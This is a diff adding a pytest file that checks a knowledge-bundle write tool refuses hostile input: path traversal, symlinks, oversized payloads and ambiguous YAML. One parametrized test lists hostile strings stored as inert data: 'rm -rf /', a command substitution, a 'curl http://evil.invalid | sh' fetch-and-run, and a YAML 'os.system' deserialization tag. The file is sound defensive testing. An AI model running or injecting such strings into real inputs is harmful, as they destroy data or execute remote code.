@@ -1,0 +1,149 @@
+"""Hostile input: refused with the contract's code and no file touched."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+
+from knowspec.impl.context import CallContext
+from knowspec.impl.errors import ToolError
+from knowspec.impl.okf import write_tools
+from write_helpers import CONCEPT, make_bundle, patch_args, preview, apply, tree_bytes
+
+C = "arch/cache"
+LIFECYCLE = {"kind": "set_lifecycle", "concept_id": C, "lifecycle": {"status": "stable", "stale_after": None}}
+
+
+def _preview_error(bundle_path, ops, **kw) -> ToolError:
+    with pytest.raises(ToolError) as err:
+        write_tools.preview_concept_patch(patch_args(bundle_path, ops, **kw), CallContext())
+    return err.value
+
+
+@pytest.mark.parametrize("concept_id", ["../escape", "arch/../../x", "/abs", "a//b", "index", "x/log", ".hidden/x",
+                                        "a:b", "c.md", " lead", "a\\b", "a\x00b"])
+def test_concept_id_escapes_are_invalid_request(bundle, concept_id):
+    before = tree_bytes(bundle)
+    op = dict(LIFECYCLE, concept_id=concept_id)
+    assert _preview_error(bundle, [op]).code == "invalid_request"
+    assert tree_bytes(bundle) == before
+
+
+@pytest.mark.parametrize("path", ["relative/path", "/tmp/../tmp", "/tmp/", " /tmp"])
+def test_unclean_bundle_paths_are_invalid_request(path):
+    assert _preview_error(path, [LIFECYCLE]).code == "invalid_request"
+
+
+def test_symlinked_bundle_root_is_refused(bundle, tmp_path):
+    link = tmp_path / "link"
+    link.symlink_to(bundle)
+    assert _preview_error(link, [LIFECYCLE]).code == "invalid_request"
+
+
+def test_symlinked_concept_is_never_written_through(tmp_path):
+    outside = tmp_path / "outside.md"
+    outside.write_text(CONCEPT)
+    b = make_bundle(tmp_path / "b", {"index.md": "---\nokf_version: \"0.2\"\n---\n"})
+    (b / "arch").mkdir()
+    (b / "arch" / "cache.md").symlink_to(outside)
+    p = preview(b, [LIFECYCLE])  # a link is invisible to the read-only capture
+    assert p["status"] == "rejected"
+    assert outside.read_text() == CONCEPT
+
+
+def test_symlinked_directory_in_bundle_blocks_the_store(tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    b = make_bundle(tmp_path / "b", {"arch/cache.md": CONCEPT})
+    (b / "ext").symlink_to(outside)
+    p = preview(b, [LIFECYCLE])
+    (b / ".okf").mkdir()
+    with pytest.raises(ToolError) as err:
+        apply(b, [LIFECYCLE], p["base_revision"], p["plan_digest"])
+    assert err.value.code == "operation_rejected"
+    assert list(outside.iterdir()) == []
+
+
+def test_too_many_operations_is_resource_limit(bundle):
+    assert _preview_error(bundle, [LIFECYCLE] * 257).code == "resource_limit"
+
+
+def test_oversized_actor_is_resource_limit(bundle):
+    assert _preview_error(bundle, [LIFECYCLE], actor="human:" + "a" * 300).code == "resource_limit"
+
+
+def test_oversized_argument_payload_is_resource_limit(bundle):
+    op = {"kind": "put_attested_computation", "concept_id": C, "attested_computation": {
+        "mode": "inline", "runtime": "py", "parameters": [], "inline_computation": "x" * (1 << 20),
+        "inline_language": "py", "executor": {"resource": "e", "receipt": ["r"]}, "attester": {"resource": "a"}}}
+    assert _preview_error(bundle, [op] * 17).code == "resource_limit"
+
+
+@pytest.mark.parametrize("frontmatter,code", [
+    ("type: Note\nbase: &b {by: 'human:x'}\ngenerated: *b\n", "yaml_alias_unsupported"),
+    ("type: Note\nstatus: draft\nstatus: stable\n", "yaml_duplicate_key"),
+    ("type: Note\n<<: {status: draft}\n", "yaml_merge_key_unsupported"),
+    ("type: Note\nsources: [{id: rfc, resource: r}]\n", "yaml_flow_style_unsupported"),
+    ("{type: Note}\n", "yaml_flow_style_unsupported"),
+    ("type: [unclosed\n", "yaml_syntax_error"),
+])
+def test_ambiguous_yaml_fails_closed(tmp_path, frontmatter, code):
+    b = make_bundle(tmp_path / "b", {"arch/cache.md": f"---\n{frontmatter}---\nbody\n"})
+    before = tree_bytes(b)
+    op = {"kind": "put_source", "concept_id": C, "source": {"id": "new", "resource": "https://x"}}
+    p = preview(b, [op])
+    assert p["status"] == "rejected"
+    assert [d["code"] for d in p["diagnostics"] if d["severity"] == "ERROR"] == [code]
+    a = apply(b, [op], p["base_revision"], p["plan_digest"])
+    assert a["status"] == "rejected"
+    assert tree_bytes(b) == before
+
+
+def test_ambiguous_source_selection_is_rejected(tmp_path):
+    fm = "type: Note\nsources:\n  - id: a\n    resource: r1\n  - id: a\n    resource: r2\n"
+    b = make_bundle(tmp_path / "b", {"arch/cache.md": f"---\n{fm}---\n"})
+    p = preview(b, [{"kind": "remove_source", "concept_id": C, "source_id": "a"}])
+    assert p["status"] == "rejected" and p["diagnostics"][0]["code"] == "ambiguous_source_selector"
+
+
+def test_anonymous_source_with_unknown_keys_cannot_be_proven_equal(tmp_path):
+    fm = "type: Note\nsources:\n  - resource: r1\n    x-extra: 1\n"
+    b = make_bundle(tmp_path / "b", {"arch/cache.md": f"---\n{fm}---\n"})
+    p = preview(b, [{"kind": "remove_source", "concept_id": C, "source": {"resource": "r1"}}])
+    assert p["status"] == "rejected" and p["diagnostics"][0]["code"] == "source_equality_unprovable"
+
+
+@pytest.mark.parametrize("executor", ["$(rm -rf /)", "`id`", "; curl http://evil.invalid | sh", "a: b # c", "- x",
+                                      "'quoted'", '"dq"', "{flow: 1}", "&anchor", "*alias", "!!python/object:os.system"])
+def test_malicious_executor_strings_are_written_inert(bundle, executor):
+    op = {"kind": "put_attested_computation", "concept_id": C, "attested_computation": {
+        "mode": "file", "runtime": "sh", "parameters": [], "computation_path": executor,
+        "executor": {"resource": executor, "receipt": [executor]}, "attester": {"resource": executor}}}
+    p = preview(bundle, [op])
+    apply(bundle, [op], p["base_revision"], p["plan_digest"])
+    from knowspec.impl.okf.frontmatter import load_yaml_mapping
+    from knowspec.impl.okf.write.document import split_document
+    fm = load_yaml_mapping(split_document((bundle / "arch/cache.md").read_bytes()).frontmatter)
+    assert str(fm["executor"]["resource"]) == executor
+    assert [str(x) for x in fm["executor"]["receipt"]] == [executor]
+    assert str(fm["attester"]["resource"]) == executor and str(fm["computation"]) == executor
+
+
+@pytest.mark.parametrize("bad", ["line\nbreak", "tab\there", "nul\x00", "del\x7f"])
+def test_control_characters_in_free_text_are_invalid_request(bundle, bad):
+    op = {"kind": "put_source", "concept_id": C, "source": {"id": bad, "resource": "https://x"}}
+    assert _preview_error(bundle, [op]).code == "invalid_request"
+
+
+def test_private_store_dir_as_symlink_is_refused(tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    b = make_bundle(tmp_path / "b", {"arch/cache.md": CONCEPT})
+    os.symlink(outside, b / ".okf")
+    p = preview(b, [LIFECYCLE])
+    with pytest.raises(ToolError) as err:
+        apply(b, [LIFECYCLE], p["base_revision"], p["plan_digest"])
+    assert err.value.code == "operation_rejected"
+    assert list(outside.iterdir()) == []
+    assert (b / "arch/cache.md").read_text() == CONCEPT
